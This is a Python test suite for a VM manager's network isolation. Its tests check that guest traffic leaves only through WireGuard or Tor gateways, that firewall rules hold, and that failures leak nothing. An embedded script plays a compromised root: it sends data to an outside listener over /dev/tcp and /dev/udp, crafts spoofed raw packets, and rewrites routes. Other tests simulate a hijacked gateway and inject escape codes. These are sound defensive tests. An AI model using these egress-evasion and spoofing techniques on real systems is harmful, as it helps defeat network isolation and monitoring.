"""Real packets: an app VM, its gateway VM, a WireGuard peer in a third VM, and a listener on the only way out."""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.vm.beyond import INSIDE, OTHER_PAGE, OUTSIDE, PAGE, PEER_RECIPE, RESOLVER, Beyond, far_end
from tests.vm.onions import EXIT, FAR_PAGE, NAME, RELAYS, tor_network
from tests.vm.world import World, wait_until

DESCRIPTION = """\
# The networks of a test.
defaults: {display: 800x600, memory: 160M, home: 64M, keep: yes}
networks:
  # A comment that stays.
  proton: {wireguard: vpn.conf}
  tor: {gateway: onion}
vms:
  app:
    image: intruder
    network: proton     # only through the tunnel
  other: {image: intruder, network: proton, disposable: yes}
  open: {image: intruder, network: nat, disposable: yes}
  shut: {image: intruder, network: none, disposable: yes}
  onion: {image: tor-gateway}
  behind: {image: intruder, network: tor, disposable: yes}
"""

INTRUDER = """
from: base
packages: [xterm, iproute2, iputils-ping, ldnsutils]
apps:
  term: [xterm]
"""

_FETCH = (
    'exec 3<>"/dev/tcp/$0/$1" && printf "GET %s HTTP/1.0\\r\\n\\r\\n" "$2" >&3 && timeout 45 cat <&3 | sed "1,/^.$/d"'
)

# What somebody does who has taken over the guest, its root included: every way out that the wiring might have.
_TRY_ALL = r"""
page=$1 outside=$2
tries() {
	timeout 1 bash -c "exec 3<>/dev/tcp/$page/80" 2>/dev/null &
	timeout 1 bash -c "exec 3<>/dev/tcp/$outside/80" 2>/dev/null &
	bash -c "echo leak >/dev/udp/$outside/9999" 2>/dev/null &
	bash -c "echo leak >/dev/udp/$outside/53" 2>/dev/null &
	timeout 1 drill -t "@$outside" leak.example.org >/dev/null 2>&1 &
	timeout 1 drill "@$outside" leak.example.org >/dev/null 2>&1 &
	ping -c 1 -W 1 "$outside" >/dev/null 2>&1 &
	ping -c 1 -W 1 "$page" >/dev/null 2>&1 &
	wait
}
tries
# Raw packets: spoofed senders, IPv6 and broadcasts, on every interface that there is.
perl -e '
	use Socket;
	my $out = inet_aton($ARGV[0]);
	for my $name (split " ", $ARGV[1]) {
		my $index = do { open my $f, "<", "/sys/class/net/$name/ifindex"; <$f> } + 0;
		for my $source ("100.126.1.3", "100.126.2.3", "10.0.2.15", "198.51.100.77", "10.66.0.2") {
			for my $protocol (1, 6, 17, 47, 50) {
				my $head = pack("CCnnnCCna4a4", 0x45, 0, 60, 1, 0, 64, $protocol, 0, inet_aton($source), $out);
				my $sum = 0; $sum += $_ for unpack("n*", $head);
				$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
				substr($head, 10, 2) = pack("n", ~$sum & 0xffff);
				my $packet = $head . pack("nnN", 4000, 53, 0) . "x" x 32;
				for my $to ("\xff" x 6, pack("H*", "525400123457"), pack("H*", "52540a000202"), pack("H*", "5254006b0101")) {
					socket(my $s, 17, SOCK_RAW, 0x0300) or die;
					my $frame = $to . pack("H*", "5254006b0001") . pack("n", 0x0800) . $packet;
					send($s, $frame, 0, pack("Snia8x8", 17, 0x0800, $index, "")) ;
					my $six = pack("NnCC", 0x60000000, 8, 17, 64) . ("\x20\x01\x0d\xb8" . "\0" x 11 . "\1") x 2 . "y" x 8;
					send($s, $to . pack("H*", "5254006b0001") . pack("n", 0x86dd) . $six, 0,
						pack("Snia8x8", 17, 0x86dd, $index, ""));
				}
			}
		}
	}
' "$outside" "$(ls /sys/class/net)"
# Other routes, other addresses: the way in of the host as the way out.
ip route replace "$outside" via 10.0.2.2 dev eth0 2>/dev/null
ip route replace "$page" via 10.0.2.2 dev eth0 2>/dev/null
tries
ip route del "$outside" 2>/dev/null
ip route del "$page" 2>/dev/null
ip address add 198.51.100.77/24 dev eth0 2>/dev/null
tries
ip address del 198.51.100.77/24 dev eth0 2>/dev/null
true
"""


class Inside(World):
    """okubsd in a network namespace whose only way out is watched."""

    def __init__(self, beyond: Beyond, top: Path, tmp: Path) -> None:
        super().__init__(top, tmp)
        self.beyond = beyond
        recipes = {"intruder": INTRUDER, "peer": PEER_RECIPE}
        for name, text in recipes.items():
            directory = self.config / "okubsd/images" / name
            directory.mkdir(exist_ok=True)
            (directory / "recipe.yaml").write_text(text)
        self.wg_path = self.config / "okubsd/vpn.conf"
        self.reset()

    def argv(self, *args: str) -> list[str]:
        return [*self.beyond.enter(self.beyond.inside), sys.executable, "-m", "okubsd", *args]

    def processes(self) -> list[tuple[int, str]]:
        return [found for found in super().processes() if "guest=peer " not in found[1]]

    def reset(self) -> None:
        """Put the description and the tunnel back to what they were."""
        self.description.write_text(DESCRIPTION)
        self.beyond.wg_file(self.wg_path)

    def fetch(self, vm: str, address: str, seconds: int = 60) -> str:
        """Return what a web server at ``address`` answers the VM, "" for nothing."""
        words = ("timeout", str(seconds), "bash", "-c", _FETCH, address, "80", "/cgi-bin/ip")
        return self.call("run", vm, "--", *words).out.strip()

    def reaches_nothing(self, vm: str, address: str) -> bool:
        return self.fetch(vm, address, 4) == ""

    def try_all(self, vm: str) -> list[str]:
        """Let the guest's root try every way out, and return what of it left the host outside the tunnel."""
        self.beyond.clear_frames()
        done = self.call("run", "--root", vm, "--", "bash", "-c", _TRY_ALL, "intruder", PAGE, OUTSIDE)
        assert done.code == 0, done.err
        return self.beyond.clear_frames()

    def in_gateway(self, command: str, name: str = "proton.gw") -> str:
        return self.ok("run", "--root", name, "--", "sh", "-c", command)


@pytest.fixture(scope="module")
def place(built: World) -> Iterator[Inside]:
    """The world with the uplink and the peer; images are built outside of it, where there is an Internet."""
    if os.geteuid() != 0:
        pytest.fail("this test makes network namespaces and so needs root")
    with tempfile.TemporaryDirectory(prefix="okn-") as tmp:
        top = built.state.parent
        made = Beyond(built.state, Path(tmp))
        world = Inside(made, top, Path(tmp))
        outside = World.argv(world, "image", "build", "term", "vpn-gateway", "tor-gateway", "intruder", "peer")
        subprocess.run(outside, env=world.env, check=True, capture_output=True, timeout=900)
        with far_end(made):
            yield world
            world.end_all()
            world.assert_nothing_left()


@pytest.fixture
def net(place: Inside) -> Iterator[Inside]:
    place.end_all()
    place.reset()
    place.beyond.clear_frames()
    yield place
    place.end_all()
    place.assert_nothing_left()


@contextlib.contextmanager
def up(net: Inside, *vms: str) -> Iterator[None]:
    for vm in vms:
        net.ok("start", vm, "--no-app")
    try:
        yield
    finally:
        for vm in vms:
            net.call("stop", vm)


def test_everything_of_an_app_goes_through_its_tunnel_and_nothing_beside_it(net: Inside) -> None:
    net.beyond.clear_frames()
    with up(net, "app"):
        assert net.fetch("app", PAGE) == "10.66.0.2", "the page is reached, and sees the tunnel's address"
        # Whatever resolver is asked, the tunnel's answers.
        for resolver in (OUTSIDE, "192.0.2.53", RESOLVER):
            found = net.ok("run", "app", "--", "drill", f"@{resolver}", "page.example.org", "A")
            assert PAGE in found, resolver
        assert (
            net.ok("run", "--root", "app", "--", "sh", "-c", f"ping -c 1 -W 5 {OTHER_PAGE} >/dev/null && echo there")
            == "there\n"
        )
        assert net.beyond.clear_frames() == []
        assert net.try_all("app") == []
        assert net.fetch("app", PAGE) == "10.66.0.2"
        status = net.status("app")
        assert status["gateway"] == "proton.gw runs" and net.status("proton.gw")["state"] == "running"
    # The gateway was made for the app, and ends with it.
    wait_until(lambda: net.qemus("proton.gw") == [])
    assert net.beyond.clear_frames() == []


def test_the_tunnel_is_proven_from_inside(net: Inside) -> None:
    with up(net, "app"):
        url = f"http://{PAGE}/cgi-bin/ip"
        found = json.loads(net.ok("vpn", "test", "app", "--url", url, "--json"))
        assert found["passed"], found
        evidence = {check["name"]: check["evidence"] for check in found["checks"]}
        assert "10.66.0.2" in evidence["exit address"]
        assert "proton.gw diverted" in evidence["DNS path"]
        assert "nothing was reached without it" in evidence["tunnel down"]
        assert "afterwards it came from 10.66.0.2" in evidence["tunnel down"]
        assert set(evidence) == {"exit address", "DNS path", "IPv6", "tunnel down"}
        told = net.ok("vpn", "test", "app", "--url", url, "--no-cut")
        assert told.count("pass ") == 3 and "FAIL" not in told
        (tunnel,) = json.loads(net.ok("vpn", "ls", "--json"))["tunnels"]
        assert tunnel["up"] and tunnel["peers"][0]["endpoint"] == f"{OUTSIDE}:51820"
        assert "answers, last" in net.ok("vpn", "ls")
        assert f"proton.gw is up: {OUTSIDE}:51820 answers, last" in net.ok("status", "app")
        # A test that cannot fail proves nothing: with a dead page it does.
        done = net.call("vpn", "test", "app", "--url", "http://203.0.113.99/", "--no-cut")
        assert done.code == 1 and "FAIL  exit address" in done.out
    assert net.call("vpn", "test", "open").code == 2


def failures() -> dict[str, Any]:
    """Return what goes wrong, by name: a function that makes it so, and whether the page is there afterwards."""

    def tunnel_down(net: Inside) -> None:
        net.in_gateway("ip link set wg0 down")

    def tunnel_gone(net: Inside) -> None:
        net.in_gateway("ip link del wg0")

    def peer_key_changed(net: Inside) -> None:
        net.beyond.tell_peer("wg genkey >/tmp/k; wg set wg0 private-key /tmp/k")
        net.in_gateway("ip link set wg0 down; /usr/lib/okubsd/gateway routes")

    def gateway_killed(net: Inside) -> None:
        (pid,) = net.qemus("proton.gw")
        os.kill(pid, signal.SIGKILL)
        wait_until(lambda: net.qemus("proton.gw") == [])

    def gateway_forwards_no_more(net: Inside) -> None:
        net.in_gateway("nft flush ruleset; echo 0 >/proc/sys/net/ipv4/ip_forward")

    def resolver_dead(net: Inside) -> None:
        net.beyond.tell_peer("kill $(busybox pidof dnsmasq)")

    def gateway_taken_over(net: Inside) -> None:
        # Whoever owns the gateway lets everything out by its own uplink; the host lets out what the tunnel needs.
        net.in_gateway(
            "nft flush ruleset; nft add table ip n; nft 'add chain ip n p { type nat hook postrouting priority 100; }';"
            "nft add rule ip n p masquerade; ip link set wg0 down; ip route replace default via 10.0.2.2 dev eth0"
        )

    return {
        "tunnel down": tunnel_down, "tunnel gone": tunnel_gone, "the peer's key changed": peer_key_changed,
        "gateway killed": gateway_killed, "gateway forwards no more": gateway_forwards_no_more,
        "gateway taken over": gateway_taken_over, "resolver dead": resolver_dead,
    }  # fmt: skip


@pytest.mark.parametrize("what", failures())
def test_nothing_leaks_whatever_fails(net: Inside, what: str) -> None:
    with up(net, "app"):
        assert net.fetch("app", PAGE) == "10.66.0.2"
        try:
            failures()[what](net)
            assert net.try_all("app") == []
            assert net.reaches_nothing("app", PAGE) is (what != "resolver dead")
            status = net.status("app")
            if what == "gateway killed":
                assert "does not run, so this VM has no network; okubsd start proton.gw" in status["gateway"]
            assert net.beyond.clear_frames() == []
        finally:
            if "peer" in what or "resolver" in what:
                net.beyond.mend_peer()
        # The way back: the gateway again, and the app as it runs.
        if what != "resolver dead":
            net.ok("stop", "proton.gw")
            net.ok("start", "proton.gw")
            wait_until(lambda: net.fetch("app", PAGE, 5) == "10.66.0.2")
        assert net.beyond.clear_frames() == []


def test_a_tunnel_that_is_down_at_the_start_lets_nothing_out(net: Inside) -> None:
    # A key that the peer does not know, and an endpoint where nobody is.
    from tests.vm.beyond import new_key

    for changes in ({"PrivateKey": new_key()[0]}, {"Endpoint": f"{OUTSIDE}:51999"}):
        net.beyond.wg_file(net.wg_path, **changes)
        with up(net, "app"):
            assert net.reaches_nothing("app", PAGE)
            left = net.try_all("app")
            assert [line for line in left if "port 51999" not in line] == []
        wait_until(lambda: net.qemus("proton.gw") == [])
    # The endpoint moved: the file says where, and the gateway is started anew.
    net.beyond.wg_file(net.wg_path)
    with up(net, "app"):
        assert net.fetch("app", PAGE) == "10.66.0.2"


def test_two_vms_share_a_tunnel_without_seeing_each_other(net: Inside) -> None:
    with up(net, "app", "other"):
        assert net.fetch("app", PAGE) == net.fetch("other", PAGE) == "10.66.0.2"
        script = (
            "ip -4 -oneline address show dev eth1 | sed 's/.*inet //; s/[/].*//'; "
            "for a in 100.126.1.3 100.126.2.3 100.126.1.2 100.126.2.2; do ping -c 1 -W 1 $a >/dev/null && echo $a; done; true"
        )
        for vm in ("app", "other"):
            own, *reached = net.ok("run", "--root", vm, "--", "sh", "-c", script).split()
            assert reached == [own], f"{vm} reaches {reached}"
        net.ok("stop", "app")
        time.sleep(2)
        assert net.fetch("other", PAGE) == "10.66.0.2", "the gateway stays for the other"
    wait_until(lambda: net.qemus("proton.gw") == [])


def test_the_guests_of_nat_and_none_stay_what_they_were(net: Inside) -> None:
    with up(net, "shut"):
        assert net.try_all("shut") == []
    with up(net, "open"):
        net.beyond.clear_frames()
        net.call("run", "open", "--", "timeout", "3", "bash", "-c", f"exec 3<>/dev/tcp/{OUTSIDE}/80")
        assert any(f"to {OUTSIDE} port 80" in line for line in net.beyond.clear_frames()), "the listener does listen"


def test_the_ways_from_the_users_side(net: Inside) -> None:
    """One VM on each network after the other: where it gets, and whom the world sees."""
    with web_outside(net, 8080):
        for network, page, straight in (
            ("none", "", False), ("nat", "", True), ("proton", "10.66.0.2", False), ("mine", "10.66.0.2", False),
        ):  # fmt: skip
            net.description.write_text(
                "networks: {proton: {wireguard: vpn.conf}, mine: {gateway: way}}\ndefaults: {memory: 160M, keep: yes}\n"
                "vms:\n  way: {image: vpn-gateway, tunnel: vpn.conf, disposable: yes}\n"
                f"  one: {{image: intruder, disposable: yes, network: {network}}}\n"
            )
            with up(net, "one"):
                assert net.fetch("one", PAGE, 60 if page else 4) == page, network
                assert reaches(net, "one", OUTSIDE, 8080) is straight, network
            net.call("stop", "way")
            wait_until(lambda: not any("guest=proton.gw " in words for _, words in net.processes()))


# --- rules ------------------------------------------------------------------------------------


def test_a_rule_takes_effect_at_once_and_keeps_the_comments(net: Inside) -> None:
    with up(net, "app"):
        assert net.fetch("app", PAGE) == "10.66.0.2"
        rule = net.begin("run", "app", "--", "bash", "-c", f"exec 3<>/dev/tcp/{PAGE}/80; sleep 6; "
                         "printf 'GET /cgi-bin/ip HTTP/1.0\\r\\n\\r\\n' >&3; timeout 3 cat <&3 || true")  # fmt: skip
        time.sleep(2)
        done = net.call("net", "deny", "app", "any", "--comment", "for a moment")
        assert done.code == 0 and "it is in force in proton.gw" in done.err
        assert net.reaches_nothing("app", PAGE), "new connections are refused"
        out, _ = rule.communicate(timeout=60)
        assert b"10.66.0.2" not in out, "a connection that was there does not go on"
        assert net.call("why", "app", PAGE).code == 1
        assert "deny any (for a moment)" in net.call("why", "app", PAGE).out
        net.ok("net", "allow", "app", f"tcp {PAGE}:80")
        assert net.fetch("app", PAGE) == "10.66.0.2" and net.reaches_nothing("app", OTHER_PAGE)
        text = net.description.read_text()
        assert "# A comment that stays." in text and "# only through the tunnel" in text
        net.ok("net", "rm", "app", f"tcp {PAGE}:80")
        net.ok("net", "rm", "app", "deny any")
        assert net.description.read_text() == DESCRIPTION
        assert net.fetch("app", OTHER_PAGE) == "10.66.0.2"
    assert net.beyond.clear_frames() == []


def test_a_rule_ends_by_itself(net: Inside) -> None:
    with up(net, "app"):
        net.ok("net", "deny", "app", "any")
        net.ok("net", "allow", "app", PAGE, "--until", "+8s")
        assert net.fetch("app", PAGE) == "10.66.0.2"
        wait_until(lambda: net.reaches_nothing("app", PAGE))
        assert "(over)" in net.ok("net", "show", "app")


def test_names_in_rules_follow_their_addresses(net: Inside) -> None:
    net.ok("net", "deny", "app", "any")
    net.ok("net", "allow", "app", "page.example.org")
    net.ok("net", "allow", "app", "nowhere.example.org:80")
    with up(net, "app"):
        wait_until(lambda: net.fetch("app", PAGE, 5) == "10.66.0.2")
        assert net.reaches_nothing("app", OTHER_PAGE)
        names = net.status("app")["names"]
        assert f"page.example.org: {PAGE}" in names
        assert any(line.startswith("nowhere.example.org: ") and "does nothing" in line for line in names)
        # Other rules come and go, and there is no moment at which the name means nothing.
        net.ok("net", "allow", "app", "198.18.0.1")
        assert net.fetch("app", PAGE) == "10.66.0.2"
        try:
            net.beyond.mend_peer(OTHER_PAGE)
            wait_until(lambda: net.fetch("app", OTHER_PAGE, 5) == "10.66.0.2")
            assert net.reaches_nothing("app", PAGE)
            # A name that leads to a private address opens it to nobody.
            net.beyond.mend_peer(RESOLVER)
            wait_until(lambda: "may not open" in " ".join(net.status("app")["names"]))
            assert net.reaches_nothing("app", RESOLVER)
        finally:
            net.beyond.mend_peer()
        # What a gateway says that was taken over does nothing to a terminal, nor to the memory of the host.
        path = "/run/okubsd/gateway/names.state"
        net.in_gateway(rf"printf 'page.example.org 1 - \033[2Jred\n' >{path}")
        for words in (net.ok("status", "app"), net.ok("net", "show", "app")):
            assert "[2Jred" in words and "\x1b" not in words

        def takes_none() -> bool:
            # Who looks names up may write his own again in between.
            net.in_gateway(f"yes | head -c 9000000 >{path}")
            return bool(net.status("app")["names"] == [])

        wait_until(takes_none)
    assert net.beyond.clear_frames() == []


def test_another_resolver_is_taken_while_the_gateway_runs(net: Inside) -> None:
    def answer() -> str:
        return net.call("run", "app", "--", "drill", f"@{OUTSIDE}", "page.example.org", "A").out

    with up(net, "app"):
        assert PAGE in answer()
        other = f"--listen-address={OTHER_PAGE} --bind-interfaces --address=/page.example.org/203.0.113.99"
        net.beyond.tell_peer(f"dnsmasq --no-resolv --no-hosts --user=root --conf-file=/dev/null --pid-file= {other}")
        try:
            text = DESCRIPTION.replace("wireguard: vpn.conf", f"wireguard: vpn.conf, resolver: {OTHER_PAGE}")
            net.description.write_text(text)
            net.ok("net", "deny", "app", "any:25")
            wait_until(lambda: "203.0.113.99" in answer())
            net.reset()
            net.ok("net", "deny", "app", "any:25")
            wait_until(lambda: PAGE in answer())
        finally:
            net.beyond.mend_peer()
    assert net.beyond.clear_frames() == []


@contextlib.contextmanager
def web_outside(net: Inside, port: int) -> Iterator[None]:
    """A web server at the far end of the uplink."""
    argv = [*net.beyond.enter(net.beyond.outside), sys.executable, "-m", "http.server", "--bind", OUTSIDE, str(port)]
    server = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(1)
    try:
        yield
    finally:
        server.kill()
        server.wait()


def reaches(net: Inside, vm: str, address: str, port: int) -> bool:
    return net.call("run", vm, "--", "timeout", "4", "bash", "-c", f"exec 3<>/dev/tcp/{address}/{port}").code == 0


def test_rules_hold_a_vm_of_nat_too(net: Inside) -> None:
    with web_outside(net, 8080), web_outside(net, 8081), up(net, "open"):
        assert reaches(net, "open", OUTSIDE, 8080)
        done = net.call("net", "deny", "open", f"{OUTSIDE}:8080")
        assert done.code == 0 and "it is in force" in done.err
        assert not reaches(net, "open", OUTSIDE, 8080) and reaches(net, "open", OUTSIDE, 8081)
        # Private networks and the host stay out of reach, by rules now.
        for address in ("10.0.2.2", INSIDE, "192.168.1.1"):
            assert not reaches(net, "open", address, 22)
        net.ok("stop", "open")
        net.ok("start", "open", "--no-app")
        assert not reaches(net, "open", OUTSIDE, 8080) and reaches(net, "open", OUTSIDE, 8081)
        net.ok("net", "deny", "open", "any")
        assert not reaches(net, "open", OUTSIDE, 8081)
        assert net.try_all("open") == [], "not even its root gets past"


def test_what_is_behind_tor_leaves_by_tor_or_not_at_all(net: Inside, tmp_path: Path) -> None:
    """A whole Tor network beyond the uplink; what leaves is Tor's own, and never goes to what the guest asked for."""
    (net.state / "vms/onion/home.img").unlink(missing_ok=True)
    with tor_network(net.beyond, net.state / "images", tmp_path / "tor") as tor, up(net, "behind"):
        assert net.status("behind")["gateway"] == "onion runs"
        assert net.status("behind")["proxy"].startswith("Tor: ")
        # Tor asks its real directories still, by TCP; nothing goes to what the guest asks for.
        assert net.reaches_nothing("behind", FAR_PAGE)
        asked = (OUTSIDE, PAGE, FAR_PAGE)
        left = net.try_all("behind")
        assert [line for line in left if "protocol 6 " not in line or any(who in line for who in asked)] == []
        net.ok("run", "--root", "onion", "--", "mkdir", "-p", "/home/torrc.d")
        net.ok("run", "--root", "onion", "--", "tee", "/home/torrc.d/test.conf", data=tor.torrc.encode())
        net.ok("restart", "onion")
        wait_until(lambda: net.fetch("behind", FAR_PAGE, 5) == EXIT, 180)
        for name in ("behind", "onion"):
            assert net.status(name)["proxy"] == "Tor: 100% (done): Done"
        net.beyond.clear_frames()
        # Names are asked of an exit, whatever resolver the guest asks; those of onions are Tor's own to answer.
        assert FAR_PAGE in net.ok("run", "behind", "--", "drill", f"@{OUTSIDE}", NAME, "A")
        found = net.ok("run", "behind", "--", "drill", tor.service, "A")
        onion = re.search(r"198\.1[89]\.[0-9.]+", found)
        assert onion is not None, found
        wait_until(lambda: net.fetch("behind", onion[0], 5) != "", 120)
        assert beside_tor(net.beyond.clear_frames()) == []
        assert beside_tor(net.try_all("behind")) == []
        # An exit that refused what was just tried is left by Tor for another circuit, which takes it a moment.
        wait_until(lambda: net.fetch("behind", FAR_PAGE, 5) == EXIT, 120)
        proof = net.ok("vpn", "test", "behind", "--compare", "--url", f"http://{FAR_PAGE}/")
        assert proof.count("pass ") == 4 and f"the VM comes from {EXIT}, this host from {INSIDE}" in proof, proof
        # Rules hold behind a proxy, those with names too.
        net.ok("net", "deny", "behind", "any")
        assert net.reaches_nothing("behind", FAR_PAGE)
        net.ok("net", "allow", "behind", NAME)
        wait_until(lambda: net.fetch("behind", FAR_PAGE, 5) == EXIT)
        # Without Tor there is nothing.
        net.in_gateway("kill $(busybox pidof tor)", "onion")
        assert net.reaches_nothing("behind", FAR_PAGE)
        assert beside_tor(net.try_all("behind")) == []
    net.ok("stop", "onion")


def beside_tor(told: list[str]) -> list[str]:
    """Return what left that was not for a relay."""
    return [line for line in told if line not in RELAYS]


# --- publish, faults ----------------------------------------------------------------------------


def test_a_port_of_a_guest_is_given_to_the_loopback_only(net: Inside) -> None:
    with up(net, "app"):
        net.ok("run", "app", "--", "sh", "-c", "mkdir -p w && echo page >w/p && busybox httpd -p 127.0.0.1:8000 -h w")
        assert net.ok("publish", "app", "18000:8000") == "127.0.0.1:18000\n"
        fetch = [*net.beyond.enter(net.beyond.inside), "python3", "-c",
                 "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=5).read())"]  # fmt: skip
        found = subprocess.run([*fetch, "http://127.0.0.1:18000/p"], capture_output=True, check=True)
        assert b"page" in found.stdout
        assert subprocess.run([*fetch, f"http://{INSIDE}:18000/p"], capture_output=True, check=False).returncode != 0
        assert json.loads(net.ok("publish", "app", "--json"))["published"] == [
            {"host": "127.0.0.1:18000", "guest": 8000}
        ]
        done = net.call("publish", "app", "18000:8001")
        assert done.code == 1 and "published already" in done.err
        net.ok("publish", "--stop", "app", "18000:8000")
        assert net.call("publish", "--stop", "app", "18000:8000").code == 1
        net.ok("publish", "app", "18001:8000")
    # It ended with the VM.
    assert subprocess.run([*fetch, "http://127.0.0.1:18001/p"], capture_output=True, check=False).returncode != 0


def test_a_broken_tunnel_file_changes_nothing(net: Inside) -> None:
    for text, words in (
        ("[Interface]\nPrivateKey = x\n", "is not base64"),
        (net.wg_path.read_text().replace("DNS", "DSN"), "did you mean 'dns'?"),
        (net.wg_path.read_text().replace("[Peer]", "PostUp = id\n[Peer]"), "'PostUp' runs a command"),
    ):
        net.wg_path.write_text(text)
        done = net.call("start", "app", "--no-app")
        assert done.code == 8 and words in done.err and "Traceback" not in done.err, done.err
        assert net.qemus("app") == net.qemus("proton.gw") == []
    net.reset()
    net.wg_path.chmod(0o644)
    done = net.call("start", "app", "--no-app")
    assert done.code == 8 and "can be read by others" in done.err
    assert net.beyond.own_key[0] not in done.err


def test_a_gateway_that_was_made_for_nobody_ends_by_itself(net: Inside) -> None:
    process = net.begin("start", "app", "--no-app")
    wait_until(lambda: net.qemus("proton.gw") != [])
    process.kill()
    process.wait()
    assert net.qemus("app") == []
    wait_until(lambda: net.qemus("proton.gw") == [])
    # So does one whose VM cannot be started.
    home = net.state / "vms/app/id_ed25519"
    mode = home.stat().st_mode
    home.chmod(0o644)
    try:
        done = net.call("start", "app", "--no-app")
        assert done.code == 1 and "can be read by others" in done.err
        wait_until(lambda: net.qemus("proton.gw") == [])
    finally:
        home.chmod(mode)


def test_killed_in_the_middle_of_a_start_nothing_stays(net: Inside) -> None:
    for seconds in (0.5, 1.2, 2.5):
        process = net.begin("start", "app", "--no-app")
        time.sleep(seconds)
        process.kill()
        process.wait()
        net.ok("start", "app", "--no-app")
        assert net.fetch("app", PAGE) == "10.66.0.2"
        net.ok("stop", "app")
        wait_until(lambda: net.qemus("proton.gw") == [])
    assert net.beyond.clear_frames() == []
